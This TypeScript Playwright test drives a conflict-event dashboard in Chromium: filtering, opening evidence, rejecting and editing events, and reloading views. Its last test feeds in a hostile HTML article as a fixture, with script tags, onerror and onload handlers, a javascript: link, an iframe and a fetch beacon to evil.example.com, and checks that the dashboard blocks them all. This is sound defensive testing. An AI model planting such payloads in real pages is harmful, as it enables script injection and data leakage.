// The dashboard in a real browser (Debian's Chromium through playwright-core) over the demo
// corpus: load, filter by country and date, open an event from the map and from the list and see
// its evidence highlighted in the report, reject it and see the counts change, reload and get the
// same view. Then a hostile HTML article, ingested and viewed: no script runs and no request leaves
// the origin. Skipped, with a message, where /usr/bin/chromium is absent.
//
// SITREP_SCREENSHOTS=docs writes docs/dashboard-*.png (the screenshots in the docs).
import { strict as assert } from "node:assert";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import type { Browser, Page } from "playwright-core";
import type { RunningServer } from "../../src/api/server.ts";
import { openStore, type Store } from "../../src/store/store.ts";
import { buildDashboard, ingestSamples, launchChromium, serve, SKIP_REASON } from "./harness.ts";

if (SKIP_REASON !== false) console.log(SKIP_REASON);

const SCREENSHOTS = process.env.SITREP_SCREENSHOTS;

describe("dashboard in Chromium", { skip: SKIP_REASON }, () => {
  let folder: string;
  let webRoot: string;
  let store: Store;
  let server: RunningServer;
  let browser: Browser;
  let page: Page;
  let origin: string;
  const requests: string[] = [];
  const dialogs: string[] = [];

  async function settled(): Promise<void> {
    // A locator, not a page function: the page's CSP forbids evaluating strings (no 'unsafe-eval').
    await page.locator("body[data-loading=false]").waitFor({ state: "attached" });
  }

  async function total(): Promise<number> {
    return Number(await page.locator("#total-events").textContent());
  }

  async function shot(name: string): Promise<void> {
    const path = SCREENSHOTS === undefined ? join(folder, `dashboard-${name}.png`) : join(SCREENSHOTS, `dashboard-${name}.png`);
    await page.screenshot({ path });
  }

  before(async () => {
    folder = mkdtempSync(join(tmpdir(), "sitrep-browser-"));
    webRoot = await buildDashboard();
    store = await openStore({ path: join(folder, "sitrep.db") });
    await ingestSamples(store);
    server = await serve(store, webRoot);
    origin = `http://127.0.0.1:${server.port}`;
    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    page.on("request", (request) => requests.push(request.url()));
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  });

  after(async () => {
    await browser?.close();
    await server?.close();
    await store?.close();
    rmSync(folder, { recursive: true, force: true });
    rmSync(webRoot, { recursive: true, force: true });
  });

  it("loads the map, the timeline and the list on the demo corpus", async () => {
    await page.goto(`${origin}/`);
    await settled();
    assert.ok((await total()) > 20, "the header counts the demo's events");
    await page.locator("#map path.ev-cluster, #map path.ev-point").first().waitFor();
    // The coarse countries come first and the fine ones once the page is idle (web/src/map.ts), so
    // on a loaded machine the fine file may still be on its way when the first points are drawn.
    const ownBasemap = (url: string): boolean => /\/assets\/countries-(?:110m|50m)-[\w-]+\.json$/.test(url);
    for (let waited = 0; waited < 10_000 && !requests.some(ownBasemap); waited += 100) await new Promise((done) => setTimeout(done, 100));
    assert.ok(requests.some(ownBasemap), "the basemap comes from the dashboard's own files");
    assert.ok((await page.locator("#map canvas").count()) > 0, "the countries are drawn");
    assert.ok((await page.locator("#timeline svg g.period rect").count()) > 0, "the timeline has bars");
    assert.ok((await page.locator("#timeline svg path.figure-mark").count()) > 0, "reported figures are marked beside the counts");
    assert.ok((await page.locator("#event-list tr.event-row").count()) > 0);
    // Events with no coordinates are never points: their country is shaded and their regions listed.
    await page.locator("#map path.region-shade").first().waitFor({ state: "attached" });
    assert.ok((await page.locator("#regions button.region").count()) > 0, "regions of unplaced events are listed");
    await shot("map");
  });

  it("filters by country and date, in the URL", async () => {
    const before = await total();
    await page.fill("input[name=country]", "IQ");
    await page.fill("input[name=since]", "2024-01");
    await page.fill("input[name=until]", "2025-12-31");
    await page.click("form#filters button[type=submit]");
    await settled();
    const after = await total();
    assert.ok(after > 0 && after < before, `the filter narrows the count (${before} -> ${after})`);
    const url = new URL(page.url());
    assert.equal(url.searchParams.get("country"), "IQ");
    assert.equal(url.searchParams.get("since"), "2024-01");
    const dates = await page.locator("#event-list tr.event-row td:first-child").allTextContents();
    assert.ok(dates.length > 0);
    for (const date of dates) assert.ok(date >= "2024" && date <= "2025-12-31", `a listed event dated ${date} is outside the filter`);
    const places = await page.locator("#event-list tr.event-row td:nth-child(3)").allTextContents();
    for (const place of places) assert.match(place, /Iraq/);
  });

  it("opens an event from the list with its evidence highlighted in the report", async () => {
    const row = page.locator("#event-list tr.event-row").first();
    const id = await row.getAttribute("data-event-id");
    await row.click();
    await settled();
    await page.locator(`#panel section.event[data-event-id="${id}"]`).waitFor();
    const highlighted = page.locator("#panel article.reader mark.evidence.current");
    assert.ok((await highlighted.count()) > 0, "the evidence is highlighted inside the report");
    const evidence = await page.locator("#panel ul.evidence-list q").allTextContents();
    const marked = await highlighted.allTextContents();
    assert.ok(
      marked.some((text) => evidence.some((sentence) => sentence.includes(text.trim()) || text.includes(sentence.trim()))),
      "a highlighted span is one of the event's evidence sentences",
    );
    assert.equal(new URL(page.url()).searchParams.get("event"), id);
    await shot("event");
    await page.click("#panel button.close");
    await settled();
  });

  it("opens an event from the map", async () => {
    const point = page.locator("#map path.ev-point");
    for (let attempt = 0; attempt < 6 && (await point.count()) === 0; attempt++) {
      await page.locator("#map path.ev-cluster").first().click({ force: true });
      await page.waitForTimeout(700);
    }
    assert.ok((await point.count()) > 0, "zooming into clusters reaches single events");
    const id = await point.first().getAttribute("data-event-id");
    await point.first().click({ force: true });
    await settled();
    await page.locator(`#panel section.event[data-event-id="${id}"]`).waitFor();
    assert.ok((await page.locator("#panel mark.evidence.current").count()) > 0);
  });

  it("rejects an event: the counts change and it stays visible as rejected", async () => {
    const before = await total();
    const id = await page.locator("#panel section.event").getAttribute("data-event-id");
    await page.click("#panel section.event button.reject");
    await page.locator("#panel p.review.rejected").waitFor();
    await settled();
    assert.equal(await total(), before - 1, "the header count drops by one");
    assert.equal(await page.locator(`#event-list tr[data-event-id="${id}"]`).count(), 0, "the rejected event leaves the list");
    await page.check("input[name=rejected]");
    await page.click("form#filters button[type=submit]");
    await settled();
    assert.equal(await page.locator(`#event-list tr.review-rejected[data-event-id="${id}"]`).count(), 1, "shown as rejected on request");
    await page.uncheck("input[name=rejected]");
    await page.click("form#filters button[type=submit]");
    await settled();
  });

  it("counts per ISO week on request", async () => {
    await page.selectOption("#interval", "week");
    await settled();
    assert.equal(new URL(page.url()).searchParams.get("interval"), "week");
    const periods = await page
      .locator("#timeline svg g.period")
      .evaluateAll((groups) => groups.map((group) => group.getAttribute("data-period")));
    assert.ok(
      periods.length > 0 && periods.every((period) => /^\d{4}-W\d{2}$/.test(period ?? "")),
      `weekly periods: ${periods.slice(0, 3).join(", ")}`,
    );
    await page.selectOption("#interval", "month");
    await settled();
  });

  it("reloads the URL into the same view", async () => {
    const url = page.url();
    const count = await total();
    const rows = await page.locator("#event-list tr.event-row").count();
    await page.reload();
    await settled();
    assert.equal(page.url(), url);
    assert.equal(await total(), count);
    assert.equal(await page.locator("#event-list tr.event-row").count(), rows);
    assert.equal(await page.inputValue("input[name=country]"), "IQ");
    assert.equal(await page.inputValue("input[name=until]"), "2025-12-31");
    const event = new URL(url).searchParams.get("event");
    if (event !== null) await page.locator(`#panel section.event[data-event-id="${event}"]`).waitFor();
  });

  it("shows the review queue with counts per status, the figures ledger and the brief", async () => {
    await page.goto(`${origin}/?view=review`);
    await settled();
    const rejected = await page.locator('#review-counts button[data-status="rejected"] strong').textContent();
    assert.equal(rejected, "1");
    const unreviewed = Number(await page.locator('#review-counts button[data-status="unreviewed"] strong').textContent());
    await page.locator("#review-list tr.event-row button.accept").first().click();
    await page.locator('#review-counts button[data-status="unreviewed"] strong', { hasText: new RegExp(`^${unreviewed - 1}$`) }).waitFor();
    await shot("review");
    // Edit: the panel's form sends the changed fields; the history records them.
    await page.locator("#review-list tr.event-row button.edit").first().click();
    await page.locator("#panel section.event form.edit-form").waitFor();
    await page.fill("#panel form.edit-form input[name=fatalities]", "7");
    await page.fill("#panel form.edit-form input[name=note]", "toll from the second report");
    await page.click("#panel form.edit-form button[type=submit]");
    await page.locator("#panel p.review.edited").waitFor();
    assert.match((await page.locator("#panel details.edits").textContent()) ?? "", /fatalities .*→ 7.*toll from the second report/s);
    await page.click("#panel button.close");
    await page.goto(`${origin}/?view=figures`);
    await settled();
    assert.ok((await page.locator("#figures tr[data-figure-id]").count()) > 0);
    await shot("figures");
    await page.goto(`${origin}/?view=brief&group=ISIS`);
    await settled();
    assert.ok((await page.locator("#brief h1, #brief h2").count()) > 0, "the brief's headings are shown");
    assert.equal(await page.locator("#brief script, #brief style, #brief img, #brief a").count(), 0);
    await shot("brief");
  });

  it("views a hostile article without running its script or leaving the origin", async () => {
    const article = `<!doctype html><html><head><title>Checkpoint attack near Tuz Khurmatu</title>
      <link rel="stylesheet" href="https://cdn.example.net/tracker.css">
      <style>@import url("https://fonts.example.org/font.css"); body { background: url(https://pixel.example.com/bg.png) }</style>
      <script>window.__pwned = "head"; alert("head")</script></head><body><article>
      <h1>Checkpoint attack near Tuz Khurmatu</h1>
      <p>On 3 March 2025 Islamic State fighters attacked an army checkpoint near Tuz Khurmatu in Salahuddin province, Iraq, killing two soldiers, the army said.</p>
      <img src="https://pixel.example.com/p.gif?id=1" onerror="window.__pwned = 'onerror'; alert('img')">
      <p>Security forces later searched the nearby villages. <a href="javascript:window.__pwned='link'">Read more</a>
      <a href="https://tracker.example.com/out">Source</a></p>
      <svg onload="window.__pwned='svg'"><script>window.__pwned = "svg-script"</script></svg>
      <iframe src="https://evil.example.com/frame"></iframe>
      <script>window.__pwned = "body"; fetch("https://evil.example.com/beacon")</script>
      </article></body></html>`;
    const response = await fetch(`${origin}/api/documents?filename=hostile.html`, {
      method: "POST",
      headers: { "Content-Type": "text/html" },
      body: article,
    });
    assert.equal(response.status, 201);
    const { document_id: documentId } = (await response.json()) as { document_id: string };
    const start = requests.length;
    await page.goto(`${origin}/?document=${documentId}`);
    await settled();
    const reader = page.locator(`#panel article.reader[data-document-id="${documentId}"]`);
    await reader.waitFor();
    assert.match((await reader.textContent()) ?? "", /army checkpoint near Tuz Khurmatu/);
    await page.waitForTimeout(500);
    assert.equal(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned), undefined, "no script from the article ran");
    assert.deepEqual(dialogs, [], "no dialog opened");
    assert.equal(await page.locator("#panel img, #panel iframe, #panel script, #panel a[href], #panel svg").count(), 0);
    // Every request of the whole session, the dashboard's views and this article's included.
    const foreign = requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith("data:"));
    assert.deepEqual(foreign, [], "no request left the origin");
    assert.ok(requests.length - start > 0, "the requests were counted");
    const headers = (await page.request.get(`${origin}/?document=${documentId}`)).headers();
    assert.match(headers["content-security-policy"] ?? "", /script-src 'self'/);
    await shot("reader");
  });
});
